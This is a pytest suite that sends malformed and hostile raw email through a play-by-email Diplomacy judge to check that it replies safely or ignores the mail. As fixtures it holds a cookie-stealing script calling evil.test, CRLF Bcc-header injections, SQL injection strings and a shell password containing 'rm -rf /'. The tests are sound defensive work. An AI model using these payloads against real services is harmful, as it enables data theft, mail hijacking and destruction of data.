"""Malformed and hostile mail, fed through the judge's real path.

Every mail here is raw bytes, built by hand so that it can be as broken as
needed, stored with ``Store.save_inbound`` and handled by ``Judge.poll`` (a
transport with nothing waiting, a real SQLite store in ``tmp_path``).  For
each mail the test says exactly what must become of it:

- answered: state ``done``, exactly one reply, to the right address and to
  nobody else, with no header the judge did not write, whose text names
  what was wrong; or
- not answered: state ``ignored`` with a note naming the reason, and no
  mail queued at all.

After every hostile mail the judge must still be whole: England's orders
stored before are unchanged, every seat is still held, nothing is left
unhandled, and a normal order mail and a normal sign-on get their normal
answers.
"""

from __future__ import annotations

import base64
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timezone
from email import message_from_bytes, policy
from email.message import EmailMessage
from itertools import count
from pathlib import Path
from uuid import uuid4

import pytest

from adjudicator.config import Config
from adjudicator.records import replace
from adjudicator.service.commands import help_text
from adjudicator.service.intake import Incoming
from adjudicator.service.render import Texts
from adjudicator.service.runner import Judge
from adjudicator.service.store import InboundMail, OutboundMail, Store
from adjudicator.service.turns import create_game

JUDGE = "judge@pbem.test"
NOW = datetime(2026, 12, 1, 10, 0, tzinfo=timezone.utc)
POWERS = ("Austria", "England", "France", "Germany", "Italy", "Russia", "Turkey")
ENGLAND_ORDERS = ("A LVP - YOR", "F EDI - NWG", "F LON - NTH")
FRANCE_ORDERS = ("A PAR - BUR", "A MAR - SPA", "F BRE - MAO")
T = Texts("en")
FRANCE = "france@pbem.test"

# The headers a reply of the judge may have, each once.
REPLY_HEADERS = {
    "from", "to", "subject", "date", "message-id", "in-reply-to", "references", "auto-submitted", "x-loop",
    "mime-version", "content-type", "content-transfer-encoding",
}


def password(power: str) -> str:
    return f"pw-{power.lower()}"


def address(power: str) -> str:
    return f"{power.lower()}@pbem.test"


def orders(power: str, *lines: str, game: str = "spiel1") -> bytes:
    """A normal order mail's body: sign-on, then one order per line."""
    return "\r\n".join([f"SIGNON {power} {game} {password(power)}", *lines, ""]).encode()


_ids = count(1)


def mail(
    body: bytes = b"",
    *,
    sender: bytes | None = FRANCE.encode(),
    subject: bytes = b"orders",
    headers: bytes = b"",
    content_type: bytes | None = b"text/plain; charset=utf-8",
    message_id: bytes | None = None,
) -> bytes:
    """A raw mail: the usual headers, ``headers`` (CRLF-terminated lines)
    after them, a blank line and ``body`` exactly as given."""
    lines = [b"From: " + sender] if sender is not None else []
    lines += [
        b"To: " + JUDGE.encode(),
        b"Subject: " + subject,
        b"Date: Tue, 01 Dec 2026 10:00:00 +0000",
        b"Message-ID: " + (message_id or b"<hostile-%d@players.test>" % next(_ids)),
    ]
    if content_type is not None:
        lines += [b"MIME-Version: 1.0", b"Content-Type: " + content_type]
    return b"\r\n".join(lines) + b"\r\n" + headers + b"\r\n" + body


def multipart(boundary: bytes, *parts: bytes, close: bool = True) -> bytes:
    """A multipart body of ``parts`` (each its headers, blank line, content)."""
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return body + (b"--" + boundary + b"--\r\n" if close else b"")


def upto(key: str, **fields: object) -> str:
    """The catalogue text ``key`` up to its one field left out of ``fields``
    (the rest is the player's text or a message of the order parser)."""
    entry = T(key, **fields, **{name: "\x00" for name in ("message", "error") if name not in fields})
    return entry.split("\x00")[0]


class NoMail:
    """A transport with nothing waiting: the tests store each mail themselves."""

    def waiting(self) -> Iterator[Incoming]:
        return iter(())

    def taken(self, incoming: Incoming) -> None:  # pragma: no cover - nothing is ever waiting
        raise AssertionError(f"nothing was waiting, yet {incoming.source} was taken")


@dataclass(frozen=True)
class Reply:
    """A mail the judge queued."""

    recipients: tuple[str, ...]
    raw: bytes
    message: EmailMessage

    @classmethod
    def of(cls, mail: OutboundMail) -> Reply:
        message = message_from_bytes(mail.message, policy=policy.default)
        return cls(mail.recipients, mail.message, message)

    @property
    def text(self) -> str:
        part = self.message.get_body(preferencelist=("plain",))
        assert part is not None, "a reply without a text/plain part"
        return str(part.get_content())


class World:
    """A judge over a copy of the prepared database."""

    def __init__(self, path: Path) -> None:
        self.config = Config(database=path, address=JUDGE, language="en")
        self.store = Store(path)
        self.judge = Judge(self.config, self.store, NoMail(), clock=lambda: NOW)

    def send(self, raw: bytes, source: str | None = None) -> tuple[InboundMail, bool, list[Reply]]:
        """Store ``raw`` as the transport would, run one poll; the mail as
        stored afterwards, whether it was new, and the mails queued."""
        before = {m.id for m in self.store.unsent_mail()}
        stored, new = self.store.save_inbound(raw, source or f"test:{uuid4()}", NOW.isoformat())
        self.judge.poll()
        queued = [Reply.of(m) for m in self.store.unsent_mail() if m.id not in before]
        return self.store.inbound(stored.id), new, queued

    def answered(self, raw: bytes, to: str) -> Reply:
        """``raw`` is handled and answered with exactly one clean reply to ``to``."""
        mail, new, queued = self.send(raw)
        assert new
        assert (mail.state, mail.note) == ("done", f"answered {to}")
        assert len(queued) == 1, [r.recipients for r in queued]
        check_reply(queued[0], to)
        return queued[0]

    def ignored(self, raw: bytes) -> InboundMail:
        """``raw`` is marked ignored and nothing at all is queued."""
        mail, new, queued = self.send(raw)
        assert new
        assert mail.state == "ignored", (mail.state, mail.note)
        assert queued == []
        return mail

    def orders_of(self, power: str, game: str = "spiel1") -> tuple[str, ...] | None:
        entry = self.store.submissions(game, "S1901M").get(power)
        return entry.orders if entry is not None else None


def check_reply(reply: Reply, to: str) -> None:
    """A reply goes to ``to`` only and has only the headers the judge writes."""
    assert reply.recipients == (to,)
    message = reply.message
    assert [a.addr_spec for a in message["To"].addresses] == [to]
    names = [name.lower() for name in message.keys()]
    assert set(names) <= REPLY_HEADERS, set(names) - REPLY_HEADERS
    assert len(names) == len(set(names)), names
    head = reply.raw.split(b"\r\n\r\n", 1)[0]
    for line in head.split(b"\r\n"):
        assert line[:1] in (b" ", b"\t") or line.split(b":", 1)[0].lower().decode() in REPLY_HEADERS, line
    assert "\r" not in str(message["Subject"]) and "\n" not in str(message["Subject"])
    assert message["Auto-Submitted"] == "auto-replied" and message["X-Loop"] == JUDGE
    assert str(message["From"]).endswith(f"<{JUDGE}>")


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with spiel1 running (all seven powers signed on by mail,
    England's orders for S1901M stored) and spiel2 still forming."""
    path = tmp_path_factory.mktemp("prepared") / "j.sqlite3"
    world = World(path)
    create_game(world.store, world.config, "spiel1", "standard", {}, NOW, seed=1)
    create_game(world.store, world.config, "spiel2", "standard", {}, NOW, seed=2)
    for power in POWERS:
        world.send(mail(orders(power), sender=address(power).encode()))
    game = world.store.game("spiel1")
    assert game is not None and (game.status, game.phase) == ("active", "S1901M")
    reply = world.answered(mail(orders("England", *ENGLAND_ORDERS), sender=b"england@pbem.test"), "england@pbem.test")
    assert T("orders_replace", count=3, phase="S1901M") in reply.text
    assert world.orders_of("England") == ENGLAND_ORDERS
    world.store.close()
    return path


@pytest.fixture
def world(prepared: Path, tmp_path: Path) -> Iterator[World]:
    for suffix in ("", "-wal", "-shm"):
        source = prepared.with_name(prepared.name + suffix)
        if source.exists():
            shutil.copy(source, tmp_path / f"j.sqlite3{suffix}")
    opened = World(tmp_path / "j.sqlite3")
    yield opened
    opened.store.close()


def assert_still_whole(world: World, *, spiel1_running: bool = True) -> None:
    """Nothing stored earlier is lost and normal mail gets its normal answer."""
    assert world.orders_of("England") == ENGLAND_ORDERS
    seats = sorted((p.power, p.status, p.address) for p in world.store.players("spiel1"))
    assert seats == [(p, "playing", address(p)) for p in POWERS]
    assert [g.name for g in world.store.games()] == ["spiel1", "spiel2"]
    assert world.store.pending_inbound() == []

    reply = world.answered(mail(orders("France", *FRANCE_ORDERS)), FRANCE)
    if spiel1_running:
        assert T("signon_ok", power="France", game="spiel1") in reply.text
        assert T("orders_replace", count=3, phase="S1901M") in reply.text
        assert world.orders_of("France") == FRANCE_ORDERS
    else:
        assert T("game_over", game="spiel1", outcome="Draw by test.") in reply.text
    reply = world.answered(mail(orders("Russia", game="spiel2"), sender=b"russia@pbem.test"), "russia@pbem.test")
    assert T("signon_joined", power="Russia", game="spiel2") in reply.text
    assert world.orders_of("England") == ENGLAND_ORDERS


# --- Mail that is answered --------------------------------------------------------

SIGNED_ON = orders("France", "A PAR - BUR")
TEXT_PART = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SIGNED_ON
ACCEPTED = (T("signon_ok", power="France", game="spiel1"), T("order_ok", line=2, order="A PAR - BUR"))
UNREADABLE = upto("unreadable_body")
NO_COMMAND = (T("empty_mail"),)
BIG_LINES = [f"{n:06d} {'garbage ' * 12}".encode() for n in range(50_000)]  # ~5 MB


def nested(depth: int, innermost: bytes) -> bytes:
    """``depth`` multiparts, each the only part of the one around it."""
    body = innermost
    for level in range(depth, 0, -1):
        body = b"Content-Type: multipart/mixed; boundary=\"n%d\"\r\n\r\n" % level + multipart(b"n%d" % level, body)
    return body.split(b"\r\n\r\n", 1)[1]


HTML = b"""<html><head><style>p { color: red } SIGNON England spiel1 pw-england</style>
<script>alert("SIGNON England spiel1 pw-england"); document.write("A LVP H")</script></head>
<body><p>SIGNON France spiel1 pw-france</p><div>A PAR - BUR</div>
<script type="text/javascript">fetch("https://evil.test/?" + document.cookie)</script></body></html>"""

BASE64_TEXT = base64.b64encode(SIGNED_ON)

ANSWERED = [
    # (raw mail, address of the reply, texts the reply must contain, texts it must not contain)
    pytest.param(
        mail(multipart(b"wrong", TEXT_PART), content_type=b'multipart/mixed; boundary="right"'), FRANCE,
        (T("unreadable_body", error="the mail's MIME structure is broken: "
                                    "the boundary 'right' of the multipart/mixed part never occurs"),),
        (T("signon_ok", power="France", game="spiel1"),), id="broken-multipart-boundary"),
    pytest.param(
        mail(SIGNED_ON, content_type=b"multipart/mixed"), FRANCE,
        (T("unreadable_body", error="the mail's MIME structure is broken: the multipart/mixed part names no boundary"),),
        (T("signon_ok", power="France", game="spiel1"),), id="multipart-without-boundary"),
    pytest.param(
        mail(multipart(b"b1", TEXT_PART, close=False), content_type=b'multipart/mixed; boundary="b1"'), FRANCE,
        ACCEPTED, (UNREADABLE,), id="missing-closing-boundary"),
    pytest.param(
        mail(nested(50, TEXT_PART), content_type=b'multipart/mixed; boundary="n1"'), FRANCE,
        ACCEPTED, (UNREADABLE,), id="multipart-nested-50-deep"),
    pytest.param(
        mail("SIGNON Österreich spiel1 pw-austria\r\nA VIE - GAL\r\n".encode(), sender=b"austria@pbem.test",
             content_type=b"text/plain; charset=x-unknown"), "austria@pbem.test",
        (T("signon_ok", power="Austria", game="spiel1"), T("order_ok", line=2, order="A VIE - GAL")),
        (T("signon_failed"),), id="unknown-charset"),
    pytest.param(
        mail("SIGNON Österreich spiel1 pw-austria\r\nA VIE - GAL\r\n".encode("latin-1"),
             sender=b"austria@pbem.test", content_type=b"text/plain; charset=utf-8"), "austria@pbem.test",
        (T("signon_ok", power="Austria", game="spiel1"), T("order_ok", line=2, order="A VIE - GAL")),
        (T("signon_failed"),), id="latin1-bytes-labelled-utf8"),
    pytest.param(
        mail(b"!!! this is not base64 at all ### \xff\r\n", headers=b"Content-Transfer-Encoding: base64\r\n"), FRANCE,
        (T("unreadable_body", error="the base64 encoding of the text is invalid"),), (), id="invalid-base64"),
    pytest.param(
        mail(BASE64_TEXT[:-4] + b"Q\r\n", headers=b"Content-Transfer-Encoding: base64\r\n"), FRANCE,
        (T("unreadable_body", error="the base64 encoding of the text is cut off"),), (), id="cut-off-base64"),
    pytest.param(
        mail(b"SIGNON France spiel1 pw-fr=\r\nance\r\nA PAR =ZZ BUR\r\nA MAR - SPA=\r\n=C3=28=\r\n",
             headers=b"Content-Transfer-Encoding: quoted-printable\r\n"), FRANCE,
        (T("signon_ok", power="France", game="spiel1"),
         T("order_error", line=2, column=7, text="A PAR =ZZ BUR", message="unexpected character '='"),
         upto("order_error", line=3, column=14, text="A MAR - SPA\u00c3(")),
        (), id="invalid-quoted-printable"),
    pytest.param(
        mail(b"\r\n".join(BIG_LINES)), FRANCE,
        (T("text_cut", read=256 * 1024, total=len(b"\r\n".join(BIG_LINES))),
         T("too_long", read=2000, total=(256 * 1024) // len(b"\r\n" + BIG_LINES[0]) + 1),
         T("orders_echo", first=1, last=2000), T("sign_on_first")),
        (), id="five-megabyte-body"),
    pytest.param(
        mail(b"x" * 1_000_000), FRANCE,
        (T("text_cut", read=256 * 1024, total=1_000_000), T("line_too_long", lines="1", limit=1000)),
        ("x" * 1001,), id="one-megabyte-line"),
    pytest.param(
        mail(b"SIGNON France spiel1 pw-france\r\nA PAR - " + b"x" * 1_000_000), FRANCE,
        (T("signon_ok", power="France", game="spiel1"), T("line_too_long", lines="2", limit=1000)),
        ("x" * 1001,), id="one-megabyte-order-line"),
    pytest.param(
        mail(b"SIGNON France " + b"x" * 1_000_000 + b" pw-france\r\nLIST " + b"y" * 1_000_000), FRANCE,
        (T("line_too_long", lines="1", limit=1000), T("empty_mail")),
        ("x" * 101, "y" * 101), id="one-megabyte-words"),
    pytest.param(
        mail(b"\r\n".join(b"%05d #@!%%&*~^ garbage \xe2\x80\xbd" % n for n in range(10_000))), FRANCE,
        (T("too_long", read=2000, total=10_000), T("sign_on_first")), (), id="ten-thousand-garbage-lines"),
    pytest.param(
        mail(multipart(b"bin", b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                               b"filename=orders.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                               + base64.b64encode(bytes(range(256)) * 4 + SIGNED_ON)),
             content_type=b'multipart/mixed; boundary="bin"'), FRANCE,
        NO_COMMAND, (UNREADABLE,), id="binary-attachment-only"),
    pytest.param(
        mail(HTML, content_type=b"text/html; charset=utf-8"), FRANCE,
        ACCEPTED, ("alert", "England", "color", "cookie", "A LVP H"), id="html-only-with-script-and-style"),
    pytest.param(mail(b""), FRANCE, NO_COMMAND, (), id="empty-body"),
    pytest.param(
        mail(b"").removesuffix(b"\r\n\r\n"), FRANCE, NO_COMMAND, (), id="headers-only"),
    pytest.param(
        mail(b"SIGNON France spiel1 pw-france\r\nA PAR \x1b[2J- BUR\x07\r\nA MAR\x00 - SPA\r\n"
             b"SIGNON France spiel1 pw\x00x\r\n\x00\x00\x00\r\n"), FRANCE,
        (T("signon_ok", power="France", game="spiel1"),
         T("order_error", line=2, column=7, text="A PAR \u241b[2J- BUR\u2407", message="unexpected character '\\x1b'"),
         T("order_error", line=3, column=6, text="A MAR\u2400 - SPA", message="unexpected character '\\x00'"),
         T("command_error", line=4, column=24, message="unprintable character U+0000 in '****'")),
        ("pw\u2400x", "pw\\x00x"), id="nul-and-control-characters"),
    pytest.param(
        mail(b"HELP\r\n", sender=b"J\xc3\xbcrgen M\xfcller <juergen@pbem.test>"), "juergen@pbem.test",
        (help_text("en").splitlines()[0],), (), id="8bit-name-in-from"),
    pytest.param(
        mail(SIGNED_ON, headers=b"Reply-To: France's secretary <secretary@elsewhere.test>\r\n"), FRANCE,
        ACCEPTED, (), id="reply-to-elsewhere-is-not-answered-there"),
    pytest.param(
        mail(b"LIST\r\n", subject=b"orders\r\nBcc: evil@evil.test\r\nCc: evil2@evil.test"), FRANCE,
        ("spiel1 (standard)",), (), id="crlf-bcc-after-subject"),
    pytest.param(
        mail(b"LIST\r\n", subject=b"orders\r\n Bcc: evil@evil.test\rCc: evil2@evil.test\nTo: evil3@evil.test"),
        FRANCE, ("spiel1 (standard)",), (), id="folded-and-bare-crlf-bcc-in-subject"),
    pytest.param(
        mail(b"LIST\r\n", subject=b"=?utf-8?q?orders=0D=0ABcc:_evil@evil.test=0D=0A?= "
                                  b"=?utf-8?b?" + base64.b64encode(b"\r\nCc: evil@evil.test\r\n\r\nbody") + b"?="),
        FRANCE, ("spiel1 (standard)",), (), id="rfc2047-encoded-crlf-in-subject"),
    pytest.param(
        mail(b"LIST\r\n", message_id=b"<a@b>\r\n Bcc: evil@evil.test",
             headers=b"In-Reply-To: =?utf-8?q?=0D=0ABcc:_evil@evil.test?=\r\n"
                     b"References: <r@b> =?utf-8?q?<x@y>=0D=0ACc:_evil@evil.test?=\r\n"
                     b"Cc: other@pbem.test, evil@evil.test\r\n"),
        FRANCE, ("spiel1 (standard)",), (), id="crlf-in-message-id-and-references"),
    pytest.param(
        mail(b"LIST\r\n", subject=b"Gr\xfc\xdfe \xff\xfe" + b"long " * 20_000), FRANCE,
        ("spiel1 (standard)",), (), id="8bit-and-100k-subject"),
    pytest.param(
        mail(orders("France", game="nosuchgame", *FRANCE_ORDERS)), FRANCE,
        (T("signon_failed"), T("sign_on_first")), (T("orders_replace", count=3, phase="S1901M"),),
        id="signon-to-a-game-that-does-not-exist"),
    pytest.param(
        mail(b"A PAR - BUR\r\nA MAR - SPA\r\nF BRE - MAO\r\n"), FRANCE,
        (T("orders_echo", first=1, last=3), T("sign_on_first")), (), id="orders-without-signon"),
    pytest.param(
        mail(b"SIGNON France x';DROP/**/TABLE/**/games;-- pw-france\r\n"
             b"LIST x'/**/OR/**/'1'='1\r\nHISTORY spiel1'-- S1901M\r\n"), FRANCE,
        (T("signon_failed"), T("no_such_game", game="x'/**/OR/**/'1'='1"), T("no_such_game", game="spiel1'--")),
        (), id="sql-in-game-names"),
    pytest.param(
        mail(b"Am 30.11.2026 um 10:00 schrieb Adjudicator <judge@pbem.test>:\r\n"
             b"> SIGNON France spiel1 pw-france\r\n> A PAR - BUR\r\nSIGNON England spiel1 pw-england\r\nA LVP H\r\n"),
        FRANCE, NO_COMMAND, (T("signon_ok", power="France", game="spiel1"),), id="quoted-reply-german"),
    pytest.param(
        mail(b"\r\n> SIGNON France spiel1 pw-france\r\n>> A PAR - BUR\r\n  > F BRE - MAO\r\n\r\n"
             b"On Mon, 30 Nov 2026 at 10:00, Adjudicator <judge@pbem.test> wrote:\r\nSIGNON England spiel1 pw-england\r\n"),
        FRANCE, NO_COMMAND, (T("signon_ok", power="France", game="spiel1"),), id="quoted-reply-english"),
    pytest.param(
        mail(SIGNED_ON, headers=b"Content-Transfer-Encoding: x-bogus-encoding\r\n"), FRANCE,
        ACCEPTED, (), id="unknown-transfer-encoding"),
    pytest.param(
        mail(multipart(b"fw", b"Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n\r\n"
                              b"From: england@pbem.test\r\nSubject: my orders\r\n\r\n" + orders("England", "A LVP H")),
             content_type=b'multipart/mixed; boundary="fw"'), FRANCE,
        NO_COMMAND, ("England",), id="forwarded-mail-is-not-read"),
    pytest.param(
        mail(SIGNED_ON, headers=b"Content-Disposition: attachment; filename=orders.txt\r\n"), FRANCE,
        NO_COMMAND, (), id="text-marked-as-attachment"),
]


@pytest.mark.parametrize(("raw", "to", "expected", "absent"), ANSWERED)
def test_garbled_mail_is_answered_with_what_was_wrong(
    world: World, raw: bytes, to: str, expected: tuple[str, ...], absent: tuple[str, ...]
) -> None:
    reply = world.answered(raw, to)
    text = reply.text
    for wanted in expected:
        assert wanted in text, f"{wanted!r} not in\n{text[:3000]}"
    for unwanted in absent:
        assert unwanted not in text, f"{unwanted[:60]!r} in\n{text[:3000]}"
    assert all(c in "\r\n\t" or c.isprintable() for c in text), {c for c in text if not c.isprintable()}
    assert len(reply.raw) < 50_000, "the reply echoes too much of the mail"
    assert T("ack_intro") in text and T("ack_footer") in text
    assert_still_whole(world)


# --- Mail that is never answered -------------------------------------------------

# The body of every mail that must not be answered signs on as England and
# changes England's orders: if the judge read it, they would change.
HIJACK = orders("England", "A LVP H", "F EDI H", "F LON H")

IGNORED = [
    # (raw mail, the note the stored mail must carry)
    pytest.param(mail(HIJACK, headers=b"Auto-Submitted: auto-replied\r\n"), "Auto-Submitted: auto-replied",
                 id="auto-replied"),
    pytest.param(mail(HIJACK, headers=b"Auto-Submitted: Auto-Generated; owner-email=x@pbem.test\r\n"),
                 "Auto-Submitted: auto-generated; owner-email=x@pbem.test", id="auto-generated"),
    pytest.param(mail(HIJACK, headers=b"Precedence: bulk\r\n"), "Precedence: bulk", id="precedence-bulk"),
    pytest.param(mail(HIJACK, headers=b"Precedence: JUNK\r\n"), "Precedence: junk", id="precedence-junk"),
    pytest.param(mail(HIJACK, headers=b"List-Id: <players.pbem.test>\r\n"), "mailing-list mail", id="mailing-list"),
    pytest.param(mail(b"This is the mail system at host mx.pbem.test.\r\n\r\n" + HIJACK,
                      sender=b"Mail Delivery System <MAILER-DAEMON@mx.pbem.test>", subject=b"Undelivered Mail"),
                 "sent by mailer-daemon@mx.pbem.test", id="bounce-from-mailer-daemon"),
    pytest.param(mail(multipart(b"dsn", b"Content-Type: text/plain\r\n\r\n" + HIJACK,
                                b"Content-Type: message/delivery-status\r\n\r\nAction: failed\r\nStatus: 5.1.1\r\n"),
                      sender=b"postmaster@mx.pbem.test",
                      content_type=b'multipart/report; report-type=delivery-status; boundary="dsn"'),
                 "a delivery or read report", id="delivery-status-report"),
    pytest.param(mail(HIJACK, headers=b"Return-Path: <>\r\n"), "a bounce (empty Return-Path)",
                 id="empty-return-path"),
    pytest.param(mail(HIJACK, headers=b"X-Loop: JUDGE@pbem.test\r\n"), "the judge's own X-Loop header",
                 id="own-x-loop"),
    pytest.param(mail(HIJACK, sender=b"Adjudicator <Judge@PBEM.test>"), "sent from the judge's own address",
                 id="from-the-judge-itself"),
    pytest.param(mail(HIJACK, headers=b"Reply-To: judge@pbem.test\r\n"), "sent from the judge's own address",
                 id="reply-to-the-judge-itself"),
    pytest.param(mail(HIJACK, sender=b"J\xc3\xbcrgen <j\xc3\xbcrgen@ex\xc3\xa4mple.test>"), "no usable sender address",
                 id="8bit-address-in-from"),
    pytest.param(mail(HIJACK, sender=b"England Player"), "no usable sender address", id="from-without-address"),
    pytest.param(mail(HIJACK, sender=b"england@pbem.test, france@pbem.test"), "no usable sender address",
                 id="two-from-addresses"),
    pytest.param(mail(HIJACK, sender=b"england@pbem.test\r\nFrom: france@pbem.test"), "no usable sender address",
                 id="two-from-headers"),
    pytest.param(mail(HIJACK, sender=None), "no sender address", id="no-from-header"),
    pytest.param(mail(HIJACK, sender=b"<>"), "no sender address", id="empty-from"),
    pytest.param(mail(HIJACK, sender=b"player@[127.0.0.1]"), "no usable sender address", id="unanswerable-address"),
    pytest.param(mail(HIJACK, sender=b"=?utf-8?q?x=0D=0ABcc:_evil@evil.test?= <england@pbem.test>"),
                 "unreadable headers: ", id="crlf-encoded-in-from-name"),
]


@pytest.mark.parametrize(("raw", "note"), IGNORED)
def test_automatic_and_unanswerable_mail_is_ignored(world: World, raw: bytes, note: str) -> None:
    mail = world.ignored(raw)
    assert mail.note.startswith(note), mail.note
    assert_still_whole(world)


def test_a_multipart_nested_too_deep_for_the_parser_stops_nothing(world: World) -> None:
    raw = mail(nested(1000, TEXT_PART), content_type=b'multipart/mixed; boundary="n1"')
    handled, new, queued = world.send(raw)
    assert new and handled.state in ("done", "ignored"), (handled.state, handled.note)
    if handled.state == "ignored":  # the email package gives up (RecursionError): nothing to answer
        assert handled.note.startswith("unreadable headers: ") and queued == []
    else:
        assert len(queued) == 1
        check_reply(queued[0], FRANCE)
    assert_still_whole(world)


# --- Sign-on and orders ------------------------------------------------------------


def test_a_failed_signon_reveals_nothing(world: World) -> None:
    """Wrong password, unknown power, unknown game: the same answer, and
    nothing about the seat or the game."""
    attempts = {
        "SIGNON England spiel1 pw-france": "wrong password",
        "SIGNON Atlantis spiel1 pw-england": "unknown power",
        "SIGNON England spiel9 pw-england": "unknown game",
        "SIGNON England spiel1 PW-ENGLAND": "password in other case",
    }
    answers = {}
    for line, what in attempts.items():
        reply = world.answered(mail(f"{line}\r\nA LVP H\r\n".encode(), sender=b"eve@evil.test"), "eve@evil.test")
        assert "> SIGNON ****\r\n" in reply.text, what  # not even the words of the line are echoed
        answers[what] = reply.text
        assert T("signon_failed") in reply.text and T("sign_on_first") in reply.text, what
        for secret in ("england@pbem.test", "pw-", "S1901M", "playing", ":: Game", ":: Power"):
            assert secret not in reply.text, (what, secret)
    assert len(set(answers.values())) == 1, answers
    assert_still_whole(world)


def test_orders_for_another_powers_units_are_refused(world: World) -> None:
    lines = ("F LON - ENG", "ENGLAND: A LVP - WAL", "England F EDI - NTH", "A PAR - PIC")
    reply = world.answered(mail(orders("France", *lines)), FRANCE)
    text = reply.text
    assert T("order_error", line=2, column=1, text="F LON - ENG", message="the unit in LON belongs to England") in text
    assert upto("order_error", line=3, column=8, text="ENGLAND: A LVP - WAL") in text
    assert T("order_error", line=4, column=1, text="England F EDI - NTH",
             message="the unit in EDI belongs to England") in text
    assert T("order_ok", line=5, order="A PAR - PIC") in text
    assert T("orders_replace", count=1, phase="S1901M") in text
    assert world.orders_of("France") == ("A PAR - PIC",)
    assert world.orders_of("England") == ENGLAND_ORDERS
    assert_still_whole(world)


def test_orders_for_a_finished_game_change_nothing(world: World) -> None:
    game = world.store.game("spiel1")
    assert game is not None
    with world.store.transaction() as db:
        world.store.update_game(db, replace(game, status="finished", outcome="Draw by test.", deadline=None))
    reply = world.answered(mail(orders("England", "A LVP H", "F EDI H", "F LON H"), sender=b"england@pbem.test"),
                           "england@pbem.test")
    assert T("game_over", game="spiel1", outcome="Draw by test.") in reply.text
    assert T("orders_replace", count=3, phase="S1901M") not in reply.text
    assert world.orders_of("England") == ENGLAND_ORDERS
    assert world.store.game("spiel1") == replace(game, status="finished", outcome="Draw by test.", deadline=None)
    assert_still_whole(world, spiel1_running=False)


def test_orders_for_a_game_not_started_are_not_stored(world: World) -> None:
    reply = world.answered(mail(orders("Germany", "A BER - KIE", "F KIE - DEN", game="spiel2"),
                                sender=b"germany@pbem.test"), "germany@pbem.test")
    assert T("signon_joined", power="Germany", game="spiel2") in reply.text
    assert T("game_forming", open=6) in reply.text
    assert T("not_started", game="spiel2") in reply.text
    assert world.store.submissions("spiel2", "S1901M") == {}
    assert_still_whole(world)


def test_a_duplicate_is_stored_once_and_answered_once(world: World) -> None:
    first = mail(orders("France", "A PAR - BUR"), message_id=b"<same@players.test>")
    world.answered(first, FRANCE)
    again_same_bytes = world.send(first, source="maildir:other-file")
    resent = mail(orders("France", "A PAR - GAS"), message_id=b"<same@players.test>", subject=b"resent")
    again_same_id = world.send(resent)
    for handled, new, queued in (again_same_bytes, again_same_id):
        assert not new and queued == []
        assert (handled.state, handled.note) == ("done", f"answered {FRANCE}")
        assert handled.raw == first.replace(b"pw-france", b"****")  # kept with the password masked
    assert world.orders_of("France") == ("A PAR - BUR",)
    assert_still_whole(world)


@pytest.mark.parametrize("secret", ["';DROP/**/TABLE/**/games;--", "$(rm${IFS}-rf${IFS}/)`id`|&;<>*?\\\"'"])
def test_a_password_with_sql_and_shell_characters_is_just_a_password(world: World, secret: str) -> None:
    join = f"SIGNON England spiel2 {secret}\r\n".encode()
    reply = world.answered(mail(join, sender=b"eve@evil.test"), "eve@evil.test")
    assert T("signon_joined", power="England", game="spiel2") in reply.text
    assert secret not in reply.text
    reply = world.answered(mail(join + b"HELP\r\n", sender=b"eve@evil.test"), "eve@evil.test")
    assert T("signon_ok", power="England", game="spiel2") in reply.text
    reply = world.answered(mail(join.replace(b"DROP", b"drop").replace(b"rm", b"RM"), sender=b"eve@evil.test"),
                           "eve@evil.test")
    assert T("signon_failed") in reply.text
    seat = next(p for p in world.store.players("spiel2") if p.power == "England")
    assert seat.status == "playing" and seat.address == "eve@evil.test"
    assert seat.password_hash is not None and secret not in seat.password_hash
    assert_still_whole(world)


def test_a_password_with_spaces_fails_cleanly(world: World) -> None:
    reply = world.answered(mail(b"SIGNON England spiel2 '; DROP TABLE games; --\r\n", sender=b"eve@evil.test"),
                           "eve@evil.test")
    assert T("signon_failed") in reply.text
    assert all(p.status == "open" for p in world.store.players("spiel2"))
    assert_still_whole(world)
